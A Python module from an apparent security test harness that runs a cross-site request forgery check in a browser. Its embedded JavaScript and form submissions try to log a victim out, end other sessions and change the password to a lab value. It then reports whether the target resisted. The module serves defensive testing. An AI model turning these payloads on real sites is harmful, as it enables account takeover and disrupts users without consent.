"""Cross-site requests that a real browser sends with the victim's cookies."""

from ..attack import Attack
from ..attacker import Attacker
from ..browser import URLENCODED, Sites, in_browser, run
from ..verdict import Verdict, held, succeeded

FETCHES = """async app => {
    const ways = [
        ['POST', '/api/logout', 'text/plain', '{}'],
        ['POST', '/api/password', 'text/plain', '{"current": "", "new": "taken over by the lab"}'],
        ['POST', '/api/sessions?_method=DELETE', 'text/plain', '{"_method": "DELETE"}'],
        ['POST', '/account/sessions/end-others', 'application/x-www-form-urlencoded', ''],
        ['POST', '/logout', 'application/x-www-form-urlencoded', 'a=b'],
        ['GET', '/logout', null, null], ['GET', '/api/logout', null, null],
    ];
    await Promise.all(ways.map(([method, path, type, body]) => fetch(app + path, {
        method, body, mode: 'no-cors', credentials: 'include',
        headers: type ? {'Content-Type': type} : {}}).catch(() => null)));
    await Promise.all([['POST', {'X-HTTP-Method-Override': 'DELETE'}], ['DELETE', {}]].map(
        ([method, headers]) => fetch(app + '/api/sessions',
            {method, headers, credentials: 'include'}).catch(() => null)));
}"""

LINK = "to => { setTimeout(() => { location.href = to }) }"
NEW = "taken over by the lab"
FORMS: tuple[tuple[str, str, list[list[str]]], ...] = (
    ("/api/password", "text/plain", [['{"current": "", "new": "' + NEW + '", "a": "', '"}']]),
    ("/account/password", URLENCODED, [["current", ""], ["new", NEW]]),
    ("/account/sessions/end-others", URLENCODED, []),
    ("/logout", URLENCODED, []),
)


def _run(attacker: Attacker) -> Verdict:
    return in_browser(attacker, _steps)


def _steps(sites: Sites) -> Verdict:
    target = sites.target
    other = target.log_in(target.sign_up())
    sites.log_in(other.account)
    before = sites.me().json().get("subject")
    if before != other.account.subject:
        raise AssertionError("the browser did not keep its login")
    for origin in sites.elsewhere:
        page = sites.open(origin)
        run(page, FETCHES, sites.app)
        for path, kind, fields in FORMS:
            sites.submit(origin, sites.app + path, kind, fields)
        with page.expect_response(f"{sites.app}/logout"):
            page.evaluate(LINK, f"{sites.app}/logout")
        if target.me(other).status != 200:
            return succeeded(f"A page at {origin} ended the victim's other session.")
        if sites.me().json().get("subject") != before:
            return succeeded(f"A page at {origin} logged the victim out.")
        if target.try_login(other.account, NEW).accepted:
            return succeeded(f"A page at {origin} changed the victim's password.")
    return held("Neither another site nor a sibling subdomain did anything in the victim's name.")


ATTACK = Attack(
    id="browser-csrf",
    title="Cross-site request forgery in Chromium",
    story="A victim who is logged in opens the attacker's page, on another site or on a sibling"
    " subdomain. It sends forms, fetches, JSON as text/plain, GETs and overridden methods."
    " The browser adds the cookies, and the application obeys unless it checks where a"
    " request came from.",
    references=("CWE-352", "ASVS V3.5.1", "ASVS V3.5.3"),
    defences=("requests from other origins are refused",),
    run=_run,
    ours=True,
)
